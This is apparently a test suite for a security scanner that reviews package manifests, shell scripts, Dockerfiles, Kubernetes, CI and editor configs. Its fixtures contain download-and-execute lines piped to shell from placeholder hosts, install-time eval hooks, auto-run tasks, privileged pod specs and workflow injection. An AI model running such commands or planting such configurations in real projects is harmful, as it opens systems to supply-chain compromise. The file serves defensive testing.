import { CATALOGUE, recognise } from '../../agents/offline/catalogue';
import { codeFiles, docFiles, infraFiles, testFiles } from '../../agents/offline/generators';
import type { Finding } from '../../contracts/validation';
import { artifactKind, reviewArtifacts } from '../../validation/artifacts';
import { findShellcheck } from '../../validation/artifacts/shellcheck';
import { runCompliance } from '../../validation/compliance/engine';
import { projectFromFiles, type Project } from '../../validation/project';
import { buildValidationReport } from '../../validation/report';
import { DEFAULT_THRESHOLDS } from '../../validation/scoring';
import { runStaticReview } from '../../validation/static';
import { cpuMsSince } from '../support/cpu-time';

const project = (files: Record<string, string>): Project =>
  projectFromFiles(Object.entries(files).map(([path, content]) => ({ path, content })));
const review = (files: Record<string, string>, shellcheck?: string | null) =>
  reviewArtifacts(project(files), shellcheck === undefined ? {} : { shellcheck });
const hits = (findings: Finding[]) =>
  findings.map((f) => `${f.severity} ${f.ruleId} ${f.location?.path}:${f.location?.line}`);
/** The findings as `severity rule path:line`, in any order. */
const expectHits = (findings: Finding[], expected: string[]) =>
  expect([...hits(findings)].sort()).toEqual([...expected].sort());
const ruleIds = (findings: Finding[]) => [...new Set(findings.map((f) => f.ruleId))].sort();
const manifest = (value: object) => JSON.stringify(value, null, 2);

describe('package.json', () => {
  it('reports every lifecycle script, and install-time downloads or inline code as critical', () => {
    const result = review({
      'package.json': manifest({
        name: 'x',
        scripts: {
          build: 'tsc -p .',
          prepare: 'tsc -p .',
          postinstall: 'curl -fsSL https://get.example.dev/setup.sh | sh',
          preinstall: "node -e \"eval(Buffer.from('aGk=', 'base64').toString())\"",
          setup: 'wget -qO- https://x.example | bash',
        },
      }),
    });
    expectHits(result.findings, [
      'critical artifacts/download-exec package.json:6',
      'critical artifacts/download-exec package.json:8',
      'critical artifacts/package/install-time-code package.json:7',
      'medium artifacts/package/lifecycle-script package.json:5',
    ]);
    expect(result.findings.find((f) => f.location?.line === 6)?.message).toMatch(/install-time script "postinstall"/);
  });

  it('reports dependency sources outside the registry by how far they are from it', () => {
    const result = review({
      'package.json': manifest({
        dependencies: {
          ok: '^1.2.0',
          pinned: '1.2.3',
          any: '*',
          a: 'github:acme/a#main',
          b: 'https://cdn.example/b-1.0.0.tgz',
          c: 'http://cdn.example/c.tgz',
          d: 'git+ssh://git@github.com/acme/d.git',
          e: 'file:../e',
          f: 'file:./vendor/f',
          g: 'link:../g',
          h: 'npm:evil@1.0.0',
          i: 'latest',
          j: 'acme/j',
        },
      }),
    });
    const bySpec = Object.fromEntries(
      result.findings.map((f) => [/dependencies (\w)/.exec(f.message)?.[1], `${f.severity} ${f.ruleId}`]),
    );
    expect(bySpec).toEqual({
      a: 'high artifacts/package/non-registry-source',
      b: 'high artifacts/package/non-registry-source',
      c: 'critical artifacts/package/cleartext-dependency-source',
      d: 'high artifacts/package/non-registry-source',
      e: 'high artifacts/package/non-registry-source',
      f: 'medium artifacts/package/local-dependency-source',
      g: 'high artifacts/package/non-registry-source',
      h: 'high artifacts/package/aliased-dependency',
      i: 'low artifacts/package/unpinned-dist-tag',
      j: 'high artifacts/package/non-registry-source',
    });
  });

  it('reports bin entries outside the package, and lists an unreadable manifest as not assessed', () => {
    const result = review({
      'package.json': manifest({ name: 'x', bin: { ok: 'dist/cli.js', evil: '../../usr/bin/env' } }),
      'tools/package.json': '{ "name": ',
    });
    expectHits(result.findings, [
      'high artifacts/package/bin-outside-project package.json:5',
      'medium artifacts/package/invalid-manifest tools/package.json:1',
    ]);
    expect(result.notAssessed).toEqual([
      { path: 'tools/package.json', tool: 'artifacts', reason: expect.stringMatching(/not valid JSON/) },
    ]);
  });
});

describe('shell scripts', () => {
  const script = [
    '#!/bin/bash',
    '# shellcheck disable=SC2086,SC2045',
    'curl -fsSLk https://get.example.dev/i.sh | sudo bash',
    'wget -qO- https://x.example/j.sh \\',
    '  | sh -s -- --yes',
    'eval "$(curl -s https://x.example/env)"',
    'curl -o /tmp/tool https://x.example/tool && chmod +x /tmp/tool && /tmp/tool',
    'chmod 777 /srv/app',
    'echo "127.0.0.1 x" >> /etc/hosts',
    'for f in $(ls); do echo $f; done',
    '',
  ].join('\n');

  it('finds download-and-execute in every form, TLS off, world-writable modes and writes to /etc', () => {
    const ours = review({ 'scripts/setup.sh': script }, null).findings.filter((f) => f.ruleId.startsWith('artifacts/'));
    expectHits(ours, [
      'critical artifacts/download-exec scripts/setup.sh:3',
      'critical artifacts/download-exec scripts/setup.sh:4',
      'critical artifacts/download-exec scripts/setup.sh:6',
      'critical artifacts/download-exec scripts/setup.sh:7',
      'high artifacts/tls-verification-disabled scripts/setup.sh:3',
      'medium artifacts/suppression scripts/setup.sh:2',
      'medium artifacts/world-writable scripts/setup.sh:8',
      'medium artifacts/writes-system-config scripts/setup.sh:9',
    ]);
  });

  it('stays quiet on near misses: data piped to tools, verified downloads, ordinary modes and paths', () => {
    const quiet = [
      '#!/bin/sh',
      'curl -s https://api.example/health | python3 -m json.tool',
      'wget -qO- https://x.example/data.json | jq .',
      'curl -fsSL -o tool.sh https://x.example/tool.sh && sha256sum -c tool.sha256 && sh tool.sh',
      'curl -fsSL https://x.example/a.tgz | tar xz',
      'chmod 755 bin/run && chmod u+x run.sh',
      'echo hi > /tmp/etc/x',
      'bash scripts/build.sh',
      '',
    ].join('\n');
    expectHits(review({ 'scripts/ok.sh': quiet }, null).findings, []);
    const workflow =
      'on: pull_request\njobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.pull_request.number }}"\n';
    expectHits(review({ '.github/workflows/ok.yml': workflow }).findings, []);
  });

  it('runs shellcheck with the script’s own directives neutralised, mapping its levels to severities', () => {
    const executable = findShellcheck();
    if (!executable)
      throw new Error('shellcheck is not installed: scripts/sandbox-setup installs it (apt-get install shellcheck)');
    const result = review({ 'scripts/setup.sh': script }, executable);
    const shellcheck = result.findings.filter((f) => f.ruleId.startsWith('shellcheck/'));
    // SC2045 (error) and SC2086 (info) were "disabled" by the script: they are reported all the same.
    expect(hits(shellcheck)).toEqual(
      expect.arrayContaining([
        'medium shellcheck/SC2045 scripts/setup.sh:10',
        'info shellcheck/SC2086 scripts/setup.sh:10',
      ]),
    );
    expect(shellcheck.every((f) => f.tool === 'artifacts' && f.category === 'quality')).toBe(true);
    expect(result.notAssessed).toEqual([]);
    expect(result.version).toMatch(/^qlp artefact rules \+ shellcheck \d+\.\d+/);
  });

  it('lists shell scripts as not assessed when shellcheck is missing, or cannot parse or read the dialect', () => {
    const files = {
      'run.sh': 'echo "$1"\n',
      'tools/start': '#!/usr/bin/env bash\necho hi\n',
      'tools/zshrc-setup': '#!/bin/zsh\necho hi\n',
      'broken.sh': '#!/bin/sh\nif [ x = y ; then\n',
    };
    expect(review(files, null).notAssessed.map((n) => [n.path, n.reason])).toEqual([
      ['broken.sh', expect.stringMatching(/shellcheck is not installed/)],
      ['run.sh', expect.stringMatching(/shellcheck is not installed/)],
      ['tools/start', expect.stringMatching(/shellcheck is not installed/)],
      ['tools/zshrc-setup', expect.stringMatching(/shellcheck is not installed/)],
    ]);
    const executable = findShellcheck();
    if (!executable) throw new Error('shellcheck is not installed: scripts/sandbox-setup installs it');
    expect(review(files, executable).notAssessed.map((n) => [n.path, n.reason])).toEqual([
      ['broken.sh', expect.stringMatching(/could not parse/)],
      ['tools/zshrc-setup', expect.stringMatching(/does not support zsh/)],
    ]);
    expect(review(files, '/nonexistent/shellcheck').notAssessed.map((n) => n.reason)).toEqual(
      expect.arrayContaining([expect.stringMatching(/shellcheck did not run/)]),
    );
  });
});

describe('Dockerfiles', () => {
  it('finds root, floating base images, secrets in ENV/ARG, remote ADD, curl | sh and privileged hints', () => {
    const result = review({
      Dockerfile: [
        'FROM node AS build',
        'ENV NPM_TOKEN=npm_abc123 NODE_ENV=production',
        'ENV DB_PASSWORD hunter2hunter2',
        'ARG API_KEY',
        'ARG TOKEN_URL=https://auth.example/token',
        'ADD https://x.example/tool.tgz /opt/',
        'ADD --checksum=sha256:0123 https://x.example/ok.tgz /opt/',
        'RUN apt-get update && apt-get install -y curl \\',
        '  && curl -fsSL https://deb.example/setup | bash -',
        '# run with: docker run --privileged',
        'FROM build',
        'USER root',
        '',
      ].join('\n'),
      'api.Dockerfile': 'FROM gcr.io/distroless/nodejs20:nonroot\nCOPY dist /app\n',
      'worker/Dockerfile':
        'FROM node:20.11-alpine@sha256:abc\nRUN apt-get install -y --no-install-recommends git\nUSER node\n',
    });
    expectHits(result.findings, [
      'critical artifacts/download-exec Dockerfile:8',
      'high artifacts/docker/secret-in-env Dockerfile:2',
      'high artifacts/docker/secret-in-env Dockerfile:3',
      'medium artifacts/docker/privileged-hint Dockerfile:10',
      'medium artifacts/docker/remote-add Dockerfile:6',
      'medium artifacts/docker/runs-as-root Dockerfile:12',
      'medium artifacts/docker/unpinned-base-image Dockerfile:1',
      'low artifacts/docker/apt-install-recommends Dockerfile:8',
      'low artifacts/docker/secret-build-arg Dockerfile:4',
    ]);
    expect(result.findings.map((f) => f.message).join('\n')).not.toMatch(/npm_abc123|hunter2/);
  });

  it('reports a final stage without USER at its FROM line', () => {
    expectHits(review({ Containerfile: 'FROM node:20 AS a\nUSER node\nFROM a\nCMD ["node"]\n' }).findings, [
      'medium artifacts/docker/runs-as-root Containerfile:3',
    ]);
  });
});

describe('Kubernetes and Compose YAML', () => {
  const deployment = `apiVersion: apps/v1
kind: Deployment
metadata: { name: loans }
spec:
  template:
    spec:
      hostNetwork: yes
      hostPID: true
      volumes:
        - name: root
          hostPath: { path: / }
        - name: sock
          hostPath: { path: /var/run/docker.sock }
      initContainers:
        - name: init
          image: busybox:1.36
          command: ["sh", "-c", "wget -qO- http://x.example/i | sh"]
          securityContext: { allowPrivilegeEscalation: false, runAsNonRoot: true }
          resources: { limits: { cpu: 100m, memory: 64Mi } }
      containers:
        - name: app
          image: ghcr.io/acme/loans:latest
          securityContext:
            privileged: on
            runAsUser: 0
            capabilities: { add: [SYS_ADMIN, NET_BIND_SERVICE] }
`;

  it('finds privileged pods, host namespaces and paths, root, floating images, missing limits and capabilities', () => {
    const result = review({ 'deploy/deployment.yaml': deployment });
    expectHits(result.findings, [
      'critical artifacts/download-exec deploy/deployment.yaml:17',
      'high artifacts/container/docker-socket deploy/deployment.yaml:13',
      'high artifacts/k8s/added-capabilities deploy/deployment.yaml:26',
      'high artifacts/k8s/host-namespace deploy/deployment.yaml:7',
      'high artifacts/k8s/host-namespace deploy/deployment.yaml:8',
      'high artifacts/k8s/host-path deploy/deployment.yaml:11',
      'high artifacts/k8s/privileged deploy/deployment.yaml:24',
      'high artifacts/k8s/runs-as-root deploy/deployment.yaml:25',
      'medium artifacts/k8s/no-resource-limits deploy/deployment.yaml:21',
      'medium artifacts/k8s/privilege-escalation deploy/deployment.yaml:21',
      'medium artifacts/k8s/unpinned-image deploy/deployment.yaml:22',
      'low artifacts/k8s/added-capabilities deploy/deployment.yaml:26',
    ]);
  });

  it('reads merge keys and aliases as Kubernetes does, and refuses duplicate keys as not assessed', () => {
    const merged = `apiVersion: v1
kind: Pod
metadata: { name: p }
x-defaults: &insecure { privileged: true }
spec:
  securityContext: { runAsNonRoot: true }
  containers:
    - name: a
      image: nginx:1.27
      resources: { limits: { cpu: 1, memory: 1Gi } }
      securityContext:
        <<: *insecure
        allowPrivilegeEscalation: false
`;
    expect(ruleIds(review({ 'pod.yaml': merged }).findings)).toEqual(['artifacts/k8s/privileged']);
    const twice = 'apiVersion: v1\nkind: Pod\nspec:\n  hostNetwork: false\n  hostNetwork: true\n';
    const result = review({ 'pod.yaml': twice });
    expectHits(result.findings, ['medium artifacts/yaml/invalid pod.yaml:5']);
    expect(result.notAssessed).toEqual([
      {
        path: 'pod.yaml',
        tool: 'artifacts',
        reason: expect.stringMatching(/YAML parse error at line 5: DUPLICATE_KEY/),
      },
    ]);
  });

  it('finds privileged Compose services, host namespaces, the Docker socket and floating images', () => {
    const result = review({
      'docker-compose.yml': `services:
  api:
    image: postgres
    privileged: true
    network_mode: host
    cap_add: [NET_ADMIN]
    security_opt: ["seccomp:unconfined"]
    volumes:
      - /var/run/docker.sock:/var/run/docker.sock
  web:
    build: .
    image: loans-web
`,
    });
    expectHits(result.findings, [
      'high artifacts/compose/added-capabilities docker-compose.yml:6',
      'high artifacts/compose/host-namespace docker-compose.yml:5',
      'high artifacts/compose/privileged docker-compose.yml:4',
      'high artifacts/compose/unconfined docker-compose.yml:7',
      'high artifacts/container/docker-socket docker-compose.yml:9',
      'medium artifacts/compose/unpinned-image docker-compose.yml:3',
    ]);
  });
});

describe('CI files', () => {
  it('finds pull_request_target checkouts of the head, script injection, printed secrets and curl | sh', () => {
    const result = review({
      '.github/workflows/ci.yml': `on:
  pull_request_target:
    types: [opened]
permissions: write-all
jobs:
  test:
    runs-on: ubuntu-latest
    env:
      DEPLOY: \${{ secrets.DEPLOY_KEY }}
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: echo "Title \${{ github.event.pull_request.title }}"
      - run: echo "$DEPLOY"
      - run: curl -sSL https://x.example/i.sh | bash
      - run: echo "\${{ github.sha }}"
`,
      '.gitlab-ci.yml': `test:
  script:
    - echo $CI_JOB_TOKEN
    - wget -O - https://x.example/i | sh
`,
    });
    expectHits(result.findings, [
      'critical artifacts/download-exec .github/workflows/ci.yml:16',
      'critical artifacts/download-exec .gitlab-ci.yml:4',
      'high artifacts/ci/script-injection .github/workflows/ci.yml:14',
      'high artifacts/ci/secret-echoed .github/workflows/ci.yml:15',
      'high artifacts/ci/secret-echoed .gitlab-ci.yml:3',
      'high artifacts/ci/untrusted-checkout .github/workflows/ci.yml:13',
      'medium artifacts/ci/write-all-permissions .github/workflows/ci.yml:4',
    ]);
    expect(result.findings.find((f) => f.ruleId === 'artifacts/ci/script-injection')?.cwe).toEqual([
      'CWE-78',
      'CWE-94',
    ]);
  });
});

describe('.npmrc and gyp files', () => {
  it('finds cleartext and foreign registries, TLS off, literal tokens and script control in .npmrc', () => {
    const result = review({
      '.npmrc': [
        'registry=http://npm.evil.example/',
        '@acme:registry=https://npm.acme.example/',
        'strict-ssl=false',
        '//npm.evil.example/:_authToken=npm_secretvalue',
        '//registry.npmjs.org/:_authToken=${NPM_TOKEN}',
        'script-shell=/tmp/sh',
      ].join('\n'),
    });
    expectHits(result.findings, [
      'critical artifacts/npmrc/cleartext-registry .npmrc:1',
      'critical artifacts/npmrc/credential .npmrc:4',
      'high artifacts/npmrc/script-control .npmrc:6',
      'high artifacts/tls-verification-disabled .npmrc:3',
      'medium artifacts/npmrc/custom-registry .npmrc:2',
    ]);
    expect(result.findings.map((f) => f.message).join('\n')).not.toContain('npm_secretvalue');
  });

  it('finds the implicit install of binding.gyp and the commands its expansions run', () => {
    const result = review({
      'binding.gyp': '{\n  "targets": [{\n    "sources": ["<!(curl -s https://x.example/g | sh; echo a.c)"]\n  }]\n}\n',
    });
    expectHits(result.findings, [
      'critical artifacts/download-exec binding.gyp:3',
      'high artifacts/gyp/command-expansion binding.gyp:3',
      'medium artifacts/gyp/implicit-install-script binding.gyp:1',
    ]);
  });
});

describe('JSON configuration', () => {
  it('reads commands in any JSON string, VS Code tasks run on folder open and devcontainer host commands', () => {
    const result = review({
      '.vscode/tasks.json': `{
  // JSON with comments, as VS Code writes it
  "version": "2.0.0",
  "tasks": [
    { "label": "setup", "type": "shell", "command": "curl -s https://x.example/i | sh", "runOptions": { "runOn": "folderOpen" } },
    { "label": "build", "type": "shell", "command": "npm run build", },
  ],
}`,
      '.devcontainer/devcontainer.json': '{ "initializeCommand": "docker login", "postCreateCommand": "npm ci" }',
      'nodemon.json': '{ "exec": "wget -qO- https://x.example/n | bash" }',
      'data/seed.json': '{ "note": "curl is a tool" }',
      '.devcontainer.json': '{ "name": ',
    });
    expectHits(result.findings, [
      'critical artifacts/download-exec .vscode/tasks.json:1',
      'critical artifacts/download-exec nodemon.json:1',
      'high artifacts/vscode/auto-run-task .vscode/tasks.json:1',
      'medium artifacts/devcontainer/host-command .devcontainer/devcontainer.json:1',
    ]);
    expect(result.notAssessed).toEqual([
      { path: '.devcontainer.json', tool: 'artifacts', reason: expect.stringMatching(/not valid JSON/) },
    ]);
  });
});

describe('what is not assessed', () => {
  it('lists files no check understands, and leaves code, prose and plain data to the other checks', () => {
    const result = review({
      'src/a.ts': 'export const a = 1;\n',
      'types/b.d.ts': 'export declare const b: number;\n',
      'README.md': '# x\n',
      LICENSE: 'MIT\n',
      'data/seed.json': '{"a": 1}\n',
      '.gitignore': 'dist\n',
      'config/settings.yaml': 'retries: 3\n',
      'tools/sync.xyz': 'curl https://x | sh\n',
      Makefile: 'all:\n\tcurl https://x | sh\n',
      '.env': 'A=1\n',
    });
    expect(result.notAssessed).toEqual([
      { path: '.env', tool: 'artifacts', reason: 'no check understands this file type' },
      { path: 'Makefile', tool: 'artifacts', reason: 'no check understands this file type' },
      { path: 'tools/sync.xyz', tool: 'artifacts', reason: 'no check understands this file type' },
    ]);
    expect(result.findings).toEqual([]);
    expect(artifactKind('src/a.ts', '')).toBe('code');
    expect(artifactKind('bin/run', '#!/bin/sh\n')).toBe('shell');
    expect(artifactKind('bin/run', '#!/usr/bin/env node\n')).toBe('unknown');
  });

  it('puts its findings and not-assessed files in the static report, and keeps the verdict from passing', async () => {
    const files = project({
      'package.json': manifest({ name: 'x', scripts: { postinstall: 'curl -s https://x.example | sh' } }),
      'src/index.ts': 'export const a = 1;\n',
      'tools/sync.xyz': 'x\n',
    });
    const staticReport = await runStaticReview(files, { intentId: 'i' }, { semgrep: 'separately' });
    expect(staticReport.checks.find((c) => c.tool === 'artifacts')).toMatchObject({
      status: 'failed',
      findingCount: 1,
      reason: 'not assessed: tools/sync.xyz',
    });
    expect(staticReport.notAssessedFiles).toEqual(
      expect.arrayContaining([
        { path: 'tools/sync.xyz', tool: 'artifacts', reason: 'no check understands this file type' },
      ]),
    );
    const compliance = await runCompliance(files, { intentId: 'i' }, {});
    const report = buildValidationReport({
      intentId: 'i',
      static: staticReport,
      compliance,
      thresholds: DEFAULT_THRESHOLDS,
      reportKeys: { sarif: 's' },
    });
    expect(report.verdict.status).toBe('failed');
    expect(report.findings.map((f) => f.ruleId)).toContain('artifacts/download-exec');
    expect(report.notAssessedFiles?.map((f) => f.path)).toContain('tools/sync.xyz');
  });
});

describe('the offline catalogue', () => {
  it('generates artefacts that pass every artefact rule, with nothing left unassessed', () => {
    for (const entry of CATALOGUE) {
      const recognised = recognise(entry.example);
      if (!recognised.ok) throw new Error(`catalogue example not recognised: ${entry.example}`);
      const { spec } = recognised;
      const files = [...codeFiles(spec), ...infraFiles(spec), ...testFiles(spec), ...docFiles(spec, entry.example)];
      const result = reviewArtifacts(project(Object.fromEntries(files.map((f) => [f.path, f.content]))));
      expect({ kind: entry.kind, findings: hits(result.findings), notAssessed: result.notAssessed }).toEqual({
        kind: entry.kind,
        findings: [],
        notAssessed: [],
      });
    }
  });
});

describe('linear time', () => {
  // Generated files reach the rules unfiltered: a pathological line must cost time in proportion to its length.
  const size = 256 * 1024; // 2.5 × the largest file the output policy lets an agent write
  const shapes: Record<string, string> = {
    'a.sh': `#!/bin/sh\n${'curl '.repeat(size / 5)}`,
    'b.sh': `#!/bin/sh\n${'bash $(  '.repeat(size / 9)}`,
    'c.sh': `#!/bin/sh\n${'>'.repeat(size)}`,
    'd.sh': `#!/bin/sh\n${'chmod o'.repeat(size / 7)}`,
    'e.yaml': `a: "${'curl x | '.repeat(size / 9)}"\n`,
    '.github/workflows/f.yml': `on: push\njobs:\n  a:\n    steps:\n      - run: "${'${{ '.repeat(size / 4)}}}"\n`,
    'binding.gyp': '<!('.repeat(size / 3),
    Dockerfile: `FROM node:20\nENV ${'A=1 '.repeat(size / 4)}\n`,
    'package.json': `{"dependencies": {${Array.from({ length: size / 32 }, (_, i) => `"p${i}": "^1.0.0"`).join(',')}}}`,
    '.vscode/tasks.json': `{"tasks": [${Array.from({ length: size / 40 }, () => '/* c */ {"command": "curl x | sh"}').join(',')}]}`,
  };

  it.each(Object.keys(shapes))('reviews a 256 kB pathological %s in under two seconds', (path) => {
    const started = process.cpuUsage();
    reviewArtifacts(project({ [path]: shapes[path]! }), { shellcheck: null });
    expect(cpuMsSince(started)).toBeLessThan(2000);
  });
});
